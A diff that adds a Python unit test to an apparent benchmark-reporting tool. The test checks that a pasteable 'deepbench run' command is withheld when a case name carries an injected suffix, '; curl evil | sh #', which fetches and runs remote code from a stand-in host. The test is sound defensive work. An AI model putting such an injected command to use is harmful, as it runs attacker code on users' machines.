@@ -37,6 +37,14 @@ def test_columns_are_the_numbers_of_the_summaries():
     assert len(records) == len(found["samples"])
 
 
+def test_a_command_is_offered_only_for_words_that_are_safe_to_paste():
+    good, bad = samples.measured(), samples.measured(seconds=2e-3)
+    bad["case"] += "; curl evil | sh #"
+    found = content.of_file(file([good, bad]), "mine")
+
+    assert [f"deepbench run {good['case']}", None] == found["columns"]["command"]
+
+
 def test_samples_are_thinned_and_keep_their_order():
     assert [0.0, 3.0, 6.0, 9.0] == content._thinned([float(i) for i in range(10)], 4)
     assert [1.0] == content._thinned([1.0], 4)
